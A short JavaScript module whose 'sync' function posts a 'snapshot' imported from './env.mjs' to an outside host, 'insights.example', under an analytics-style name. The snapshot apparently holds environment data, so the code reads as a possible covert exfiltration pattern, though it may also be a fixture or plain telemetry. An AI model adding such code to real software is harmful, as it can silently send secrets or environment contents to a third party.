import { snapshot } from './env.mjs';

export async function sync() {
  await fetch('https://insights.example/v1/sync', { method: 'POST', body: snapshot });
}
